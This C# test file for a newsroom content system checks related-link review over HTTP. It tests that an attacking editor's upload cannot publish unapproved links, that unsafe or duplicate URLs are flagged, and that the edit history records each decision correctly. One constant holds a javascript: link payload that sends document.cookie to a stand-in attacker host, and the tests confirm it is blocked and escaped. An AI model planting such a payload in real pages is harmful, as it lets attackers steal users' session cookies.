using System.Net;
using System.Text.Json;
using AngleSharp.Dom;
using Cms.Core.Auditing;
using Cms.Core.FrontMatter;
using Cms.Core.Items;
using Cms.Web.Tests.Infrastructure;
using Cms.Web.Tests.Workflow;

namespace Cms.Web.Tests.Items;

// Related links by identity over HTTP, as the people of the newsroom (and an attacker among them)
// use the item page: the exact attack of the security review, the link cards and the history.
public sealed class LinkIdentityPageTests(AppFixture app) : WebTest(app), IClassFixture<AppFixture>
{
    private const string Script = "javascript:fetch('https://evil.example/?c='+document.cookie)";

    private sealed record Story(TestItem Item, string A, string B, string C)
    {
        public static Story New()
        {
            var tag = Unique.Tag();
            var (a, b, c) = ($"https://www.reuters.com/world/{tag}", $"https://propaganda.example/{tag}", $"https://c.example/{tag}");
            return new Story(new TestItem { Related = [("Reuters", a), ("Outlet B", b), ("Outlet C", c)] }, a, b, c);
        }

        public string WithRelated(params (string Title, string Url)[] related) => (Item with { Related = related }).ToYaml();
    }

    // The item page's edit form as loaded, with each link's decision set by URL.
    private async Task<HttpResponseMessage> DecideAsync(HttpClient client, long id, IReadOnlyDictionary<string, (string Decision, string? Reason)> decisions)
    {
        var urls = Factory.WithDb(db => db.RelatedLinks.Where(l => l.ItemId == id).ToDictionary(l => l.Id.ToString(), l => l.Url));
        var html = await client.GetStringAsync($"/Items/Details/{id}");
        var page = Html.Parse(html);
        var form = new Dictionary<string, string>
        {
            ["__RequestVerificationToken"] = Http.AntiforgeryToken(html),
            ["Input.Version"] = page.Field("Input.Version"),
        };
        foreach (var card in page.QuerySelectorAll("#edit-form .related-link"))
        {
            var idField = card.QuerySelector("input[name$='].Id']")!;
            var prefix = idField.GetAttribute("name")![..^".Id".Length];
            form[prefix + ".Id"] = idField.GetAttribute("value")!;
            var (decision, reason) = decisions.TryGetValue(urls[idField.GetAttribute("value")!] ?? "", out var d) ? d : ("Pending", null);
            form[prefix + ".Decision"] = decision;
            form[prefix + ".Reason"] = reason ?? "";
        }
        return await client.PostAsync($"/Items/Details/{id}", new FormUrlEncodedContent(form));
    }

    // The pending revision accepted with only the given fields ticked (none: nothing ticked).
    internal static async Task<HttpResponseMessage> AcceptNothingTickedAsync(HttpClient client, long id, params string[] fields)
    {
        var html = await client.GetStringAsync($"/Items/Details/{id}");
        var form = new List<KeyValuePair<string, string>>
        {
            new("__RequestVerificationToken", Http.AntiforgeryToken(html)),
            new("Decide.RevisionId", Html.Field(html, "Decide.RevisionId")),
            new("Decide.Version", Html.Field(html, "Decide.Version")),
        };
        form.AddRange(fields.Select(f => new KeyValuePair<string, string>("Decide.Fields", f)));
        return await client.PostAsync($"/Items/Details/{id}?handler=AcceptRevision", new FormUrlEncodedContent(form));
    }

    private async Task<long> ReviewedAsync(Story story, HttpClient editor)
    {
        await ImportAsync(story.Item);
        var id = ItemId(story.Item);
        var saved = await DecideAsync(editor, id, new Dictionary<string, (string, string?)>
        {
            [story.A] = ("Approved", null),
            [story.B] = ("Rejected", "propaganda outlet"),
            [story.C] = ("Approved", null),
        });
        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        Assert.Equal(HttpStatusCode.Redirect, (await Moves.PostAsync(editor, id, WorkflowAction.MarkReady)).StatusCode);
        return id;
    }

    private static List<string> UrlsOf(string text) =>
        ((SourceMapping)new YamlFrontMatterReader().ReadText("published", text).Root)["related"] is SourceSequence related
            ? related.Items.Cast<SourceMapping>().Select(m => ((SourceScalar)m["webUrl"]!).Value).ToList()
            : [];

    [Fact]
    public async Task An_uninvolved_editor_uploading_a_script_link_first_and_accepting_with_nothing_ticked_publishes_only_the_approved_links()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story, await SignedInAsync(Roles.Editor));
        var attacker = await SignedInAsync(Roles.Editor);
        var upload = await Uploads.UploadAsync(attacker, ("revision.txt", Uploads.File(story.WithRelated(("Read this", Script), ("Reuters", story.A), ("Outlet B", story.B), ("Outlet C", story.C)))));
        Assert.Equal(HttpStatusCode.OK, upload.StatusCode);
        Assert.True(Factory.WithDb(db => db.Items.Single(i => i.Id == id).SourceChanged), "the upload waits as a pending revision");

        var accepted = await AcceptNothingTickedAsync(attacker, id);
        var publisher = await SignedInAsync(Roles.Publisher);
        var published = await Moves.PostAsync(publisher, id, WorkflowAction.Publish);

        Assert.Equal(HttpStatusCode.Redirect, accepted.StatusCode);
        Assert.Equal(HttpStatusCode.Redirect, published.StatusCode);
        var file = Path.Combine(Factory.PublishFolder, Factory.WithDb(db => db.Items.Single(i => i.Id == id).OutputFile!));
        await Eventually.HappensAsync(() => File.Exists(file), "the worker writing the published file");
        var text = await File.ReadAllTextAsync(file);
        Assert.Equal([story.A, story.C], UrlsOf(text));
        Assert.DoesNotContain("javascript", text);
    }

    [Fact]
    public async Task A_card_says_why_a_link_can_never_be_published_and_offers_no_approval()
    {
        var tag = Unique.Tag();
        var url = $"https://twice.example/{tag}";
        var story = new TestItem { Related = [("First", url), ("Script", Script), ("Again", url)] };
        await ImportAsync(story);
        var editor = await SignedInAsync(Roles.Editor);

        var page = Html.Parse(await editor.GetStringAsync($"/Items/Details/{ItemId(story)}"));

        var cards = page.QuerySelectorAll("#edit-form .related-link").ToList();
        Assert.Equal(3, cards.Count);
        Assert.Equal(url, cards[0].GetAttribute("data-link"));
        Assert.Null(cards[0].QuerySelector(".link-unpublishable"));
        Assert.False(cards[0].QuerySelector("input[value=Approved]")!.HasAttribute("disabled"));
        Assert.Equal("Never published: unsafe URL.", cards[1].QuerySelector(".link-unpublishable")!.TextContent.Trim());
        Assert.Equal("Never published: same URL as related link 1.", cards[2].QuerySelector(".link-unpublishable")!.TextContent.Trim());
        Assert.All(cards.Skip(1), c => Assert.True(c.QuerySelector("input[value=Approved]")!.HasAttribute("disabled")));
        // The URL is shown as text, escaped, for every link.
        Assert.Equal(Script, cards[1].QuerySelector(".link-url")!.TextContent.Trim());
    }

    [Fact]
    public async Task After_a_revision_inserts_a_link_the_history_still_names_the_right_link_for_every_earlier_decision()
    {
        var story = Story.New();
        var editor = await SignedInAsync(Roles.Editor);
        var id = await ReviewedAsync(story, editor);
        await Corpus.ImportAsync(Factory.Services, story.WithRelated(("Inserted", "https://inserted.example/x"), ("Reuters", story.A), ("Outlet B", story.B), ("Outlet C", story.C)));
        Assert.Equal(HttpStatusCode.Redirect, (await AcceptNothingTickedAsync(editor, id, "related")).StatusCode);

        var page = Html.Parse(await editor.GetStringAsync($"/Items/Details/{id}"));

        var edited = page.QuerySelectorAll($"#history .history-entry[data-action='{AuditActions.ItemEdited}']").Single();
        var rows = edited.QuerySelectorAll("tr[data-field=related]").ToDictionary(r => r.GetAttribute("data-url")!);
        Assert.Equal(new[] { story.A, story.B, story.C }.Order(), rows.Keys.Order());
        Assert.Equal(["Pending", "Rejected"], rows[story.B].QuerySelectorAll("td").Select(c => c.TextContent.Trim()));
        Assert.Equal(["Pending", "Approved"], rows[story.A].QuerySelectorAll("td").Select(c => c.TextContent.Trim()));
        Assert.Contains("Reuters", rows[story.A].QuerySelector("th")!.TextContent);
        Assert.Contains(story.A, rows[story.A].QuerySelector("th")!.TextContent);
        var accepted = page.QuerySelectorAll($"#history .history-entry[data-action='{AuditActions.ItemRevisionAccepted}']").Single();
        Assert.Contains(accepted.QuerySelectorAll("tr[data-field=related]"), r => r.GetAttribute("data-url") == "https://inserted.example/x");
    }

    [Fact]
    public async Task The_history_diff_shows_exactly_the_stored_text()
    {
        var story = Story.New();
        var editor = await SignedInAsync(Roles.Editor);
        await ImportAsync(story.Item);
        var id = ItemId(story.Item);
        Assert.Equal(HttpStatusCode.Redirect, (await DecideAsync(editor, id, new Dictionary<string, (string, string?)> { [story.A] = ("Approved", null) })).StatusCode);
        var moved = story.A.Replace("/world/", "/business/");
        await Corpus.ImportAsync(Factory.Services, story.WithRelated(("Reuters", moved), ("Outlet B", story.B), ("Outlet C", story.C)));
        Assert.Equal(HttpStatusCode.Redirect, (await AcceptNothingTickedAsync(editor, id, "related")).StatusCode);

        var page = Html.Parse(await editor.GetStringAsync($"/Items/Details/{id}"));

        var stored = Factory.WithDb(db => db.AuditEvents.Single(a => a.EntityId == id.ToString() && a.Action == AuditActions.ItemRevisionAccepted).Data!);
        var change = JsonDocument.Parse(stored).RootElement.GetProperty("changes").EnumerateArray().First(c => c.GetProperty("field").GetString() == "related" && !c.TryGetProperty("url", out _));
        var cell = page.QuerySelectorAll($"#history .history-entry[data-action='{AuditActions.ItemRevisionAccepted}'] tr[data-field=related] td.history-diff").Single();
        Assert.Equal(change.GetProperty("before").GetString(), Side(cell, "ins"));
        Assert.Equal(change.GetProperty("after").GetString(), Side(cell, "del"));
        Assert.Contains("https://www.reuters.com/", cell.TextContent);
    }

    // The diff cell's text without the other side's pieces: what the stored value reads as.
    private static string Side(IElement cell, string otherSide)
    {
        var copy = (IElement)cell.Clone();
        foreach (var other in copy.QuerySelectorAll(otherSide).ToList())
        {
            other.Remove();
        }
        return copy.TextContent;
    }
}
